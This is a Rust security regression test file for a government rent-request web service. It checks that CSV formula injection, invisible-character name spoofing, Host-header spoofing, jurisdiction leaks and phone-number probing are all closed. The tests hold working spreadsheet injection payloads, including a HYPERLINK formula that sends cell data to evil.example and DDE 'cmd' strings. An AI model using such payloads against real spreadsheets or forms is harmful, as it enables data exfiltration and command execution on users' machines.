//! Holes an attacker found, closed: spreadsheet formulas in the officials' CSV, names that
//! are not what they show, credit codes recovered by prefix search, notices showing other
//! counties' requests, internal notes in the owner's history.

use serde_json::{Value, json};

use crate::helpers::{TestApp, Tokens, credit_code, phone, registration, rent_request, spawn_app};

async fn register_named(app: &TestApp, n: u32, name: &str) -> crate::helpers::Reply {
    let mut body = registration(&phone(n), &credit_code(n));
    body["business_name"] = json!(name);
    app.post("/api/v1/auth/register", &body).await
}

async fn file_in(app: &TestApp, token: &str, n: u32, jurisdiction: &str) -> Value {
    let mut body = rent_request();
    body["answers"]["jurisdiction"] = json!(jurisdiction);
    let reply = app.file(token, &format!("k-{n}"), &body).await;
    assert_eq!(reply.status, 201, "{}", reply.body);
    reply.body
}

/// OWASP's CSV injection: a cell that starts with `=`, `+`, `-`, `@`, a tab or a CR (also
/// after spaces) is written with a leading `'`, so Excel and WPS show it instead of running it.
#[actix_web::test]
async fn business_names_that_are_formulas_are_written_to_the_csv_as_text() {
    let app = spawn_app().await;
    let names = [
        "=HYPERLINK(\"http://evil.example/?d=\"&B4,\"点击查看\")",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "  =1+1",
    ];
    for (i, name) in names.iter().enumerate() {
        let n = i as u32 + 1;
        let r = register_named(&app, n, name).await;
        assert_eq!(r.status, 201, "{}", r.body);
        let token = r.body["access_token"].as_str().unwrap().to_string();
        file_in(&app, &token, n, "korla").await;
    }
    let official = app.official(1, "sasac", "korla").await;
    let res = app
        .client
        .get(format!(
            "{}/api/v1/admin/requests/export?format=csv",
            app.address
        ))
        .bearer_auth(&official.access)
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 200);
    let text = String::from_utf8(res.bytes().await.unwrap().to_vec()).unwrap();
    // The name is the fifth column; read the lines back as a spreadsheet would.
    let cells: Vec<String> = text
        .trim_start_matches('\u{feff}')
        .lines()
        .skip(1)
        .map(|line| {
            let mut fields = Vec::new();
            let mut field = String::new();
            let mut quoted = false;
            let mut chars = line.chars().peekable();
            while let Some(c) = chars.next() {
                match (c, quoted) {
                    ('"', true) if chars.peek() == Some(&'"') => {
                        field.push('"');
                        chars.next();
                    }
                    ('"', _) => quoted = !quoted,
                    (',', false) => fields.push(std::mem::take(&mut field)),
                    (c, _) => field.push(c),
                }
            }
            fields.push(field);
            fields[4].clone()
        })
        .collect();
    assert_eq!(cells.len(), names.len(), "{text}");
    for name in names {
        // Names are stored trimmed.
        assert!(
            cells.contains(&format!("'{}", name.trim())),
            "{name} is neutralised: {cells:?}"
        );
    }
    assert!(cells.iter().all(|c| c.starts_with('\'')), "{cells:?}");
}

#[actix_web::test]
async fn names_with_invisible_format_characters_are_refused_and_names_are_stored_nfkc() {
    let app = spawn_app().await;
    for (n, name) in [
        "\u{200b}\u{200b}\u{200b}",
        "甲小吃店\u{200b}",
        "\u{202e}RLO-小吃店-gnp.exe",
    ]
    .into_iter()
    .enumerate()
    {
        let r = register_named(&app, n as u32 + 1, name).await;
        assert_eq!(r.status, 400, "{name:?}: {}", r.body);
        assert_eq!(r.body["error"]["field"], "business_name", "{name:?}");
    }
    let r = register_named(&app, 9, "ＡＢＣ小吃店").await;
    assert_eq!(r.status, 201, "{}", r.body);
    let token = r.body["access_token"].as_str().unwrap();
    let me = app.get_as("/api/v1/me", token).await;
    assert_eq!(
        me.body["business"]["business_name"], "ABC小吃店",
        "{}",
        me.body
    );
    // A rename is held to the same rule.
    let renamed = app
        .send(
            reqwest::Method::PATCH,
            "/api/v1/me",
            Some(&json!({"business_name": "ABC小吃店\u{2060}"})),
            Some(token),
        )
        .await;
    assert_eq!(renamed.status, 400, "{}", renamed.body);
    assert_eq!(renamed.body["error"]["field"], "business_name");
}

#[actix_web::test]
async fn an_export_searched_by_credit_code_keeps_the_code_masked_in_the_audit_log() {
    let app = spawn_app().await;
    let owner = app.owner(&phone(1), 1).await;
    file_in(&app, &owner.access, 1, "korla").await;
    let official = app.official(1, "sasac", "korla").await;
    let code = credit_code(1);
    let res = app
        .client
        .get(format!(
            "{}/api/v1/admin/requests/export?format=csv&q={code}",
            app.address
        ))
        .bearer_auth(&official.access)
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 200);
    let admin = app.staff("13900000002", "admin", &[]).await;
    let log = app
        .get_as(
            "/api/v1/admin/audit?action=requests_exported",
            &admin.access,
        )
        .await;
    let detail = log.body["items"][0]["detail"].as_str().unwrap().to_string();
    assert!(!detail.contains(&code), "{detail}");
    assert!(
        detail.contains(&shared::credit_code::mask_credit_code(&code)),
        "{detail}"
    );
}

/// A 督办 notice about a department's overdue requests in two counties: an official of one
/// county sees only that county's requests in it, as `GET /requests/{id}` would allow.
#[actix_web::test]
async fn a_notice_shows_an_official_only_the_requests_of_their_jurisdictions() {
    let app = spawn_app().await;
    let korla_owner = app.owner(&phone(1), 1).await;
    let luntai_owner = app.owner(&phone(2), 2).await;
    let korla = file_in(&app, &korla_owner.access, 1, "korla").await;
    let luntai = file_in(&app, &luntai_owner.access, 2, "luntai").await;
    let db = sea_orm::Database::connect(app.database_url.as_str())
        .await
        .unwrap();
    sea_orm::ConnectionTrait::execute_unprepared(&db, "UPDATE requests SET due_on = '2022-06-01'")
        .await
        .unwrap();
    let supervisor = app.staff("13900000001", "supervisor", &[]).await;
    let issued = app
        .post_as(
            "/api/v1/admin/notices",
            Some(&json!({
                "department": "sasac",
                "requests": [korla["id"], luntai["id"]],
                "deadline": "2030-01-01",
                "message": "请于期限内办结逾期申请并报告。"
            })),
            &supervisor.access,
        )
        .await;
    assert_eq!(issued.status, 201, "{}", issued.body);
    let id = &issued.body["id"];
    let korla_official = app.official(1, "sasac", "korla").await;
    let seen = app
        .get_as(
            &format!("/api/v1/admin/notices/{id}"),
            &korla_official.access,
        )
        .await;
    assert_eq!(seen.status, 200, "{}", seen.body);
    let numbers: Vec<&Value> = seen.body["requests"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| &r["number"])
        .collect();
    assert_eq!(numbers, vec![&korla["number"]], "not Luntai's");
    let all = app
        .get_as(&format!("/api/v1/admin/notices/{id}"), &supervisor.access)
        .await;
    assert_eq!(all.body["requests"].as_array().unwrap().len(), 2);
}

/// An owner sees that the request changed hands, not the note between officials or who.
#[actix_web::test]
async fn the_owner_sees_a_handover_without_the_officials_note() {
    let app = spawn_app().await;
    let owner = app.owner(&phone(1), 1).await;
    let filed = file_in(&app, &owner.access, 1, "korla").await;
    let first = app.official(1, "sasac", "korla").await;
    // The colleague it is handed to.
    let _second: Tokens = app.official(2, "sasac", "korla").await;
    let colleagues = app
        .get_as(
            &format!("/api/v1/admin/requests/{}/colleagues", filed["id"]),
            &first.access,
        )
        .await;
    let to = colleagues.body["items"][0]["id"].clone();
    let handed = app
        .post_as(
            &format!("/api/v1/admin/requests/{}/handover", filed["id"]),
            Some(&json!({"to": to, "comment": "此户材料存疑，请重点核查"})),
            &first.access,
        )
        .await;
    assert_eq!(handed.status, 200, "{}", handed.body);
    let seen = app
        .get_as(&format!("/api/v1/requests/{}", filed["id"]), &owner.access)
        .await;
    let handover = seen.body["history"]
        .as_array()
        .unwrap()
        .iter()
        .find(|e| e["kind"] == "handover")
        .unwrap()
        .clone();
    assert_eq!(handover["comment"], Value::Null, "{handover}");
    assert!(
        handover.get("actor_id").is_none_or(Value::is_null),
        "{handover}"
    );
    assert!(!seen.body.to_string().contains("重点核查"));
}

#[actix_web::test]
async fn the_posters_link_is_the_configured_address_whatever_the_host_header_says() {
    let app = crate::helpers::spawn_app_with(|c| {
        c.public_url = Some("https://shukun.example.gov.cn".into());
    })
    .await;
    let res = app
        .client
        .get(format!("{}/api/v1/share/poster.svg", app.address))
        .header("Host", "evil.example")
        .header("X-Forwarded-Host", "evil.example")
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 200);
    let svg = res.text().await.unwrap();
    assert!(svg.contains("https://shukun.example.gov.cn/check"), "{svg}");
    assert!(!svg.contains("evil.example"));
}

#[actix_web::test]
async fn the_last_administrator_cannot_be_disabled_and_a_disabled_account_is_enabled_again() {
    let app = spawn_app().await;
    let admin = app.staff("13700002222", "admin", &[]).await;
    let me = app.get_as("/api/v1/me", &admin.access).await;
    let path = |id: &Value, what: &str| format!("/api/v1/admin/users/{id}/{what}");
    let alone = app
        .post_as(&path(&me.body["id"], "disable"), None, &admin.access)
        .await;
    assert_eq!(alone.status, 409, "{}", alone.body);
    assert_eq!(alone.code(), "last_administrator");
    let still = app.get_as("/api/v1/me", &admin.access).await;
    assert_eq!(still.status, 200, "still signed in");

    let official = app.official(1, "sasac", "korla").await;
    let official_id = app.get_as("/api/v1/me", &official.access).await.body["id"].clone();
    let off = app
        .post_as(&path(&official_id, "disable"), None, &admin.access)
        .await;
    assert_eq!(off.body["disabled"], true, "{}", off.body);
    let on = app
        .post_as(&path(&official_id, "enable"), None, &admin.access)
        .await;
    assert_eq!(on.status, 200, "{}", on.body);
    assert_eq!(on.body["disabled"], false);
    let again = app
        .login(&format!("137{:08}", 1), crate::helpers::PASSWORD)
        .await;
    assert_eq!(again.status, 200, "signs in again: {}", again.body);
    // Only administrators enable.
    let refused = app
        .post_as(
            &path(&official_id, "enable"),
            None,
            again.body["access_token"].as_str().unwrap(),
        )
        .await;
    assert_eq!(refused.status, 403);
}

#[actix_web::test]
async fn a_phone_change_signs_out_the_other_sessions_but_not_this_one() {
    let app = spawn_app().await;
    let here = app.owner(&phone(1), 1).await;
    let elsewhere = app.login(&phone(1), crate::helpers::PASSWORD).await;
    let elsewhere = elsewhere.body["access_token"].as_str().unwrap().to_string();
    let changed = app
        .send(
            reqwest::Method::PATCH,
            "/api/v1/me",
            Some(&json!({"phone": phone(2), "password": crate::helpers::PASSWORD})),
            Some(&here.access),
        )
        .await;
    assert_eq!(changed.status, 200, "{}", changed.body);
    assert_eq!(app.get_as("/api/v1/me", &here.access).await.status, 200);
    assert_eq!(app.get_as("/api/v1/me", &elsewhere).await.status, 401);
}

/// `PATCH /me` answered `phone_taken` for any number, without limit: 30 numbers probed found
/// every registered one. Until a new number is confirmed by a code, each try counts as a
/// registration from that address.
#[actix_web::test]
async fn probing_numbers_through_a_phone_change_is_limited_like_registration() {
    let app = crate::helpers::spawn_app_with(|c| c.limits.register_per_address.max = 4).await;
    let prober = app.owner(&phone(1), 1).await;
    app.owner(&phone(2), 2).await;
    let probe = |n: u32| {
        let app = &app;
        let token = prober.access.clone();
        async move {
            app.send(
                reqwest::Method::PATCH,
                "/api/v1/me",
                Some(&json!({"phone": phone(n), "password": crate::helpers::PASSWORD})),
                Some(&token),
            )
            .await
            .status
        }
    };
    // Two registrations used two of the address's four tries.
    assert_eq!(probe(2).await, 409, "phone_taken");
    assert_eq!(probe(3).await, 200, "a free number: changed");
    assert_eq!(
        probe(2).await,
        429,
        "no more tries from this address for now"
    );
}

const JPEG: &[u8] = b"\xFF\xD8\xFF\xE0\x00\x10JFIF\x00\x01\x01 a small photo of a lease";

/// The request, the role and the state are checked before the body is read: a 10 MiB upload
/// announced to someone else's request is answered 404 at once, its body never sent.
#[actix_web::test]
async fn an_upload_to_another_owners_request_is_refused_before_its_body_is_read() {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let app = spawn_app().await;
    let owner = app.owner(&phone(1), 1).await;
    let filed = file_in(&app, &owner.access, 1, "korla").await;
    let attacker = app.owner(&phone(2), 2).await;
    let host = app.address.trim_start_matches("http://").to_string();
    let mut socket = tokio::net::TcpStream::connect(&host).await.unwrap();
    let head = format!(
        "POST /api/v1/requests/{}/documents?purpose=lease HTTP/1.1\r\nHost: {host}\r\nAuthorization: Bearer {}\r\nContent-Type: image/jpeg\r\nContent-Length: 10485760\r\n\r\n",
        filed["id"], attacker.access
    );
    socket.write_all(head.as_bytes()).await.unwrap();
    // Nothing of the body is sent: the answer comes anyway.
    let mut answer = vec![0; 512];
    let n = tokio::time::timeout(std::time::Duration::from_secs(5), socket.read(&mut answer))
        .await
        .expect("answered without waiting for the body")
        .unwrap();
    let answer = String::from_utf8_lossy(&answer[..n]);
    assert!(answer.starts_with("HTTP/1.1 404"), "{answer}");
}

#[actix_web::test]
async fn documents_are_capped_per_request_and_bytes_per_owner() {
    let app = crate::helpers::spawn_app_with(|c| {
        c.requests.documents_per_request = 2;
        c.requests.document_bytes_per_owner = 200;
    })
    .await;
    let owner = app.owner(&phone(1), 1).await;
    let filed = file_in(&app, &owner.access, 1, "korla").await;
    let id = &filed["id"];
    for _ in 0..2 {
        let r = app
            .upload(&owner.access, id, "lease", "a.jpg", JPEG.to_vec())
            .await;
        assert_eq!(r.status, 201, "{}", r.body);
    }
    let third = app
        .upload(&owner.access, id, "lease", "a.jpg", JPEG.to_vec())
        .await;
    assert_eq!(third.status, 409, "{}", third.body);
    assert_eq!(third.code(), "document_quota");

    // Another request of the same owner: the owner's bytes are nearly used up.
    let other = app.owner(&phone(2), 2).await;
    let theirs = file_in(&app, &other.access, 2, "korla").await;
    let mut big = JPEG.to_vec();
    big.resize(150, b' ');
    let first = app
        .upload(&other.access, &theirs["id"], "lease", "a.jpg", big.clone())
        .await;
    assert_eq!(first.status, 201, "{}", first.body);
    let over = app
        .upload(&other.access, &theirs["id"], "lease", "a.jpg", big)
        .await;
    assert_eq!(over.status, 409, "{}", over.body);
    assert_eq!(over.code(), "document_quota");
}

/// A crash between writing a document's file and committing its row leaves a file no row
/// names: at start, such files older than a quarter of an hour are swept; others stay.
#[actix_web::test]
async fn files_a_crash_left_without_their_row_are_swept_at_start() {
    let dir = std::env::temp_dir().join(format!("shukun-sweep-{}", std::process::id()));
    let docs = dir.join("documents");
    std::fs::create_dir_all(&docs).unwrap();
    let old = std::time::SystemTime::now() - std::time::Duration::from_secs(3600);
    let stray = docs.join("0123456789abcdef0123456789abcdef.jpg");
    let part = docs.join("fedcba9876543210fedcba9876543210.jpg.part");
    let fresh = docs.join("00000000000000000000000000000000.jpg");
    for (path, at) in [(&stray, Some(old)), (&part, Some(old)), (&fresh, None)] {
        std::fs::write(path, JPEG).unwrap();
        if let Some(at) = at {
            std::fs::File::options()
                .write(true)
                .open(path)
                .unwrap()
                .set_modified(at)
                .unwrap();
        }
    }
    let d = docs.clone();
    let app = crate::helpers::spawn_app_with(move |c| c.requests.document_dir = Some(d)).await;
    // The owner's document, stored through the app, is named by its row: it stays.
    let owner = app.owner(&phone(1), 1).await;
    let filed = file_in(&app, &owner.access, 1, "korla").await;
    let kept = app
        .upload(&owner.access, &filed["id"], "lease", "a.jpg", JPEG.to_vec())
        .await;
    assert_eq!(kept.status, 201);
    for _ in 0..50 {
        if !stray.exists() && !part.exists() {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    }
    assert!(!stray.exists(), "an old file without a row is swept");
    assert!(!part.exists(), "a half-written file is swept");
    assert!(fresh.exists(), "a recent one may be an upload under way");
    let files = std::fs::read_dir(&docs).unwrap().count();
    assert_eq!(files, 2, "the fresh stray and the owner's document");
    std::fs::remove_dir_all(&dir).ok();
}
